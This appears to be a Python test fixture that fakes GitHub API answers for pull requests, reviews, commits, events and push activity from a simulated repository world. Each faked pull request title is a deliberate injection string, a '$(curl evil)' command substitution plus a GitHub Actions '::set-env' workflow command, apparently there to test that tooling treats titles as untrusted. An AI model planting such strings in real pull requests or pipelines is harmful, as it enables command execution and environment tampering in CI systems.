"""The world as the API of GitHub tells it, in the shapes of its own documentation."""

from tests.build_tools.forges.view_parts import (
    JSON,
    REPOSITORY,
    commit_by_whom,
    find_request,
    moment,
    newest_first,
    raw_commits,
)
from tests.build_tools.forges.world import Pushed, Request, Said, User, World


def answer(world: World, path: str, query: dict[str, str]) -> object | None:
    """The answer at a path: a list, an object, or None where there is nothing."""
    parts = path.split("/")
    if parts[0] == "user":
        user = world.users[int(parts[1])] if len(parts) == 2 else world.owner_of_token
        return _user(user) if user else None
    rest = "/".join(parts[3:])
    match rest.split("/"):
        case ["pulls"]:
            listed = [r for r in world.requests if query["state"] == "all" or r.state == "open"]
            listed = [r for r in listed if r.target == query["base"]]
            return [_pull(r) for r in newest_first(listed)]
        case ["pulls", number, "reviews"]:
            return [_review(said) for said in find_request(world, number).said]
        case ["pulls", number, "commits"]:
            return [
                commit_by_whom(world, _user, *one) for one in raw_commits(world, find_request(world, number))
            ]
        case ["issues", number, "events"]:
            return _events(find_request(world, number))
        case ["activity"]:
            found = [p for p in world.pushes if p.ref == query["ref"]]
            return [_activity(p) for p in reversed(found)]
    return None


def _user(user: User) -> JSON:
    return {"login": user.login, "id": user.number, "type": "Bot" if user.robot else "User"}


def _pull(request: Request) -> JSON:
    repository = None if request.fork_is_gone else {"id": 1, "full_name": REPOSITORY}
    return {
        "number": request.number,
        "state": "open" if request.state == "open" else "closed",
        "title": "`$(curl evil)`\n::set-env name=X::1",
        "body": request.description,
        "user": _user(request.user),
        "head": {"ref": request.branch, "sha": request.head, "repo": repository},
        "base": {"ref": request.target, "sha": request.base, "repo": {"full_name": REPOSITORY}},
        "draft": False,
        "created_at": moment(request.opened),
        "updated_at": moment(request.updated),
        "closed_at": moment(request.closed),
        "merged_at": moment(request.closed) if request.merged else None,
        "merge_commit_sha": request.merged or "0" * 40,
        "requested_reviewers": [_user(user) for user in request.requested],
    }


def _review(said: Said) -> JSON:
    state = {"approved": "APPROVED", "returned": "CHANGES_REQUESTED", "commented": "COMMENTED"}[said.state]
    return {
        "id": said.number,
        "user": _user(said.user),
        "state": "DISMISSED" if said.dismissed_by else state,
        "body": said.body,
        "commit_id": said.commit,
        "submitted_at": moment(said.at),
    }


def _events(request: Request) -> list[JSON]:
    events: list[JSON] = [
        {
            "id": said.number + 5000,
            "event": "review_dismissed",
            "actor": _user(said.dismissed_by),
            "created_at": moment(said.dismissed_at),
            "dismissed_review": {"state": "approved", "review_id": said.number, "dismissal_message": "?"},
        }
        for said in request.said
        if said.dismissed_by
    ]
    if request.retargeted:
        actor, at = _user(request.user), moment(request.retargeted)
        events.append({"id": 3, "event": "base_ref_changed", "actor": actor, "created_at": at})
    if request.closed_by:
        actor, at = _user(request.closed_by), moment(request.closed)
        if request.merged:
            events.append({"id": 1, "event": "merged", "actor": actor, "created_at": at})
        events.append({"id": 2, "event": "closed", "actor": actor, "created_at": at})
    return events


def _activity(pushed: Pushed) -> JSON:
    return {
        "id": 1,
        "before": pushed.before,
        "after": pushed.after,
        "ref": pushed.ref,
        "timestamp": moment(pushed.at),
        "activity_type": pushed.kind,
        "actor": _user(pushed.user),
    }
